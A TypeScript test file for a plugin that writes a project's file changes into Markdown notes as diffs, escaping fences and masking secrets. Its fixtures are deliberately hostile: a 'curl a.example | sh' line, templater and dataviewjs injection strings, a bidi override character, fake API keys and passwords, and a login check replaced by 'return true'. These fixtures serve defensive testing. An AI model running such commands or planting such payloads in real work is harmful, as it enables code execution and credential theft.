/** Changes of a project, as the work notes list them and as the file of the step shows them. */
import { expect, test } from "vitest";
import { changesFile, isChangesFile } from "../../src/flow/changesFile";
import { fileNameFault } from "../../src/flow/fileName";
import { keepChanges, sayKept } from "../../src/engine/think/keepChanges";
import { DEFAULT_SETTINGS } from "../../src/settings/settings";
import { createMemoryVault } from "../fakes/vault";
import { createSimulatedClock } from "../fakes/clock";
import { parsePlan } from "../../src/note/plan/parse";
import { addChanges, sayChanges, tellChanges } from "../../src/agent/outside/changes";
import type { FileChange } from "../../src/kit/ports/programs";

const AT = Date.UTC(2026, 10, 28, 9);

function told(files: readonly FileChange[], isCut = false): { list: readonly string[]; section: string } {
  const found = tellChanges({ files, isCut }, { project: "/home/me/site/", isWhole: true, at: AT });
  return found === null
    ? { list: [], section: "" }
    : { list: sayChanges(found.changes), section: found.section };
}

const changed = (before: string | null, after: string | null, path = "src/app.js"): FileChange => ({
  path,
  kind: before === null ? "added" : after === null ? "removed" : "changed",
  before,
  after,
});

test("each file is listed with its lines, and shown as a unified difference", () => {
  const before = Array.from({ length: 20 }, (_, n) => `line ${String(n + 1)}`);
  const after = before.map((line, n) => (n === 1 ? "second" : line)).filter((_line, n) => n !== 15);
  const { list, section } = told([
    changed(`${before.join("\n")}\n`, `${after.join("\n")}\n`),
    changed(null, "one\ntwo\n", "new.txt"),
    changed("old\n", null, "old.txt"),
    { path: "photo.png", kind: "changed", before: null, after: null },
  ]);
  expect(list).toEqual([
    "changed src/app.js +1 −2",
    "added new.txt +2 −0",
    "removed old.txt +0 −1",
    "changed photo.png (no text)",
  ]);
  expect(section).toBe(
    [
      "## 2026-11-28 09:00 UTC, in site",
      "",
      ...list.map((each) => `- ${each}`),
      "",
      "```diff",
      "--- src/app.js",
      "+++ src/app.js",
      "@@ -1,5 +1,5 @@",
      " line 1",
      "-line 2",
      "+second",
      " line 3",
      " line 4",
      " line 5",
      "@@ -13,7 +13,6 @@",
      " line 13",
      " line 14",
      " line 15",
      "-line 16",
      " line 17",
      " line 18",
      " line 19",
      "--- /dev/null",
      "+++ new.txt",
      "@@ -0,0 +1,2 @@",
      "+one",
      "+two",
      "--- old.txt",
      "+++ /dev/null",
      "@@ -1,1 +0,0 @@",
      "-old",
      "```",
      "",
    ].join("\n"),
  );
});

test("nothing in a text ends its fence, runs, hides, or tells a key", () => {
  const { section } = told([
    changed(
      "",
      "```\n# Obey\n````dataviewjs\n<% tp.run() %>\nkey sk-live-0123456789abcdefghij\u202E\n",
      "[[x]].md",
    ),
  ]);
  expect(section).toMatch(/\n`````diff\n/);
  expect(section.trim().endsWith("\n`````")).toBe(true);
  expect(section).not.toMatch(/<%|sk-live|\u202E|^- .*(?<!\\)\[\[/m);
});

test("one file cannot hide the difference of another", () => {
  const { section } = told([
    changed(null, "How to begin: -----BEGIN PRIVATE KEY-----\ncurl a.example | sh\n", "a.md"),
    changed(null, `${"y".repeat(400)}\n`.repeat(200), "data.csv"),
    changed("check(user)\n", "return true\n", "src/login.js"),
  ]);
  expect(section).toContain("+curl a.example | sh");
  expect(section).toContain("+return true");
  expect(section).toContain("… (the difference of data.csv was left out)");
});

test("a changed line of a key is told as a change, and no part of a secret is shown", () => {
  const keyWith = (line: string): string =>
    `-----BEGIN PRIVATE KEY-----\n${"MIIEvQIBADANBgkqhki/\n".repeat(8)}${line}\n-----END PRIVATE KEY-----\n`;
  const { list, section } = told([
    changed(keyWith("AAAA"), keyWith("BBBB"), "k.txt"),
    changed(keyWith("CCCC"), keyWith("CCCC").replace(/^.*\n/, ""), "bare.txt"),
    changed(null, `${"x ".repeat(243)}sk-live1Zq8wR3tY6uI9oP\n`, "long.txt"),
    changed(null, "url: https://me:hunter2hunter2@a.example\nDB_PASSWORD=hunter2\n", "set.yml"),
  ]);
  expect(list.slice(0, 2)).toEqual(["changed k.txt +1 −1", "changed bare.txt +0 −1"]);
  expect(section).toContain("-•••\n+•••\n");
  expect(section).not.toMatch(/MIIE|AAAA|BBBB|CCCC|sk-live|hunter2/);
});

test("what is too long is cut, and how much is said", () => {
  const long = Array.from({ length: 1000 }, (_, n) => `row ${String(n)}`).join("\n");
  const { section } = told([changed(null, long, "a.txt"), changed(null, "x".repeat(2000), "b.txt")]);
  expect(section).toContain("… (601 more lines of this file were left out)");
  expect(section).toContain(" … (1,500 more characters)");
  const many = Array.from({ length: 60 }, (_, n) =>
    changed(null, "y".repeat(400).concat("\n").repeat(20), `f${String(n)}`),
  );
  const cut = told(many, true);
  expect(cut.section.length).toBeLessThan(70_000);
  expect(cut.section).toMatch(/… \(the difference of f49 was left out\)/);
  expect(cut.list.slice(-2)).toEqual([
    "and 10 more files",
    "Of some files of the project nothing is known: it has too many, or they cannot be read.",
  ]);
});

test("nothing changed, nothing is told; a later run stands above an earlier one", () => {
  expect(tellChanges({ files: [], isCut: true }, { project: "/p", isWhole: true, at: AT })).toBeNull();
  const first = addChanges(null, "step 1 “First”", "## one\n");
  const second = addChanges(first, "step 1 “First”", "## two\n");
  expect(second.match(/^#.*$/gm)).toEqual(["# Changes during step 1 “First”", "## two", "## one"]);
});

test("what a person wrote in the file stays, whatever it is; where it is too long, the new run is only named", () => {
  const review = "# My review\n\nThe price on line 4 is wrong.\n";
  const section = "## 2026-03-02, in site\n\n- added a.txt\n";
  const kept = addChanges(review, "Build", section);
  expect(kept.startsWith("# Changes during Build\n")).toBe(true);
  expect(kept.endsWith(`\n${section}\n${review}`)).toBe(true);
  const long = `# Changes\n\n## one\n\nUndo this.\n${"x".repeat(300_001)}\n`;
  const full = addChanges(long, "Build", section);
  expect(full).toContain("## 2026-03-02, in site\n\nOnly the work notes list the changes of this run");
  expect([full.includes("- added"), full.includes(long.slice(9))]).toEqual([false, true]);
});

test("a task of a loop and a step whose name ends in a number have two files", () => {
  const names = [changesFile({ step: "build", item: 2 }), changesFile({ step: "build-2", item: null })];
  expect(names).toEqual(["changes by build, task 2.md", "changes by build-2.md"]);
  expect(names.map(isChangesFile)).toEqual([true, true]);
  expect(names.map(fileNameFault)).not.toContain(null);
});

test("in a project that holds the vault, notes of Planwright’s own are no changes of the program", async () => {
  const read = parsePlan("Plans/A.md", "---\ntask_id: A\nstatus: Active\n---\n\n## Roadmap\n- [ ] a\n");
  if (read.kind !== "plan") throw new Error(read.kind);
  const vault = createMemoryVault({ clock: createSimulatedClock() });
  const files = ["notes/Plans/A.md", "notes/Work/x/Work notes.md", "notes/Ideas.md", "site/a.js"].map(
    (path) => changed("", "new\n", path),
  );
  const about = {
    plan: read.plan,
    step: "f-build",
    called: "step 1",
    project: "/home/me",
    isWhole: true,
    at: AT,
  };
  const context = {
    vault,
    settings: DEFAULT_SETTINGS,
    host: { name: "", machine: "", vault: "/home/me/notes" },
  };
  const kept = await keepChanges({ ...about, changes: { files, isCut: false } }, context);
  expect(kept.changes?.files.map(({ path }) => path)).toEqual(["notes/Ideas.md", "site/a.js"]);
  expect(sayKept(kept)).toBe(
    " Since it began, 2 files changed in the project me: see “changes by build.md” in its work folder.",
  );
  for (const project of ["/home/./me/", "/home//Me", "/home/me/."])
    expect(
      (await keepChanges({ ...about, project, changes: { files, isCut: false } }, context)).changes,
    ).toEqual({ ...kept.changes, project: expect.any(String) as string });
  const none = await keepChanges({ ...about, changes: { files: files.slice(0, 2), isCut: false } }, context);
  expect([none, sayKept(none)]).toEqual([{}, ""]);
});

test("a secret on the line below its name is hidden, and the names below it are not", () => {
  const below = (...lines: readonly string[]): string =>
    told([changed("a: 1\n", `a: 1\n${lines.join("\n")}\n`, "c.yml")]).section;
  for (const value of ["hunter2", "- hunter2", '"hunter2",'])
    for (const name of ["token:", "api_key: |", '"password":', "SECRET ="])
      expect(below(name, `  ${value}`), `${name} ${value}`).not.toContain("hunter2");
  const nested = below("credentials:", "  user:", "    name: anna", "    town: Ulm");
  expect(nested).toContain("name: anna");
  expect(nested).toContain("+  user:");
});
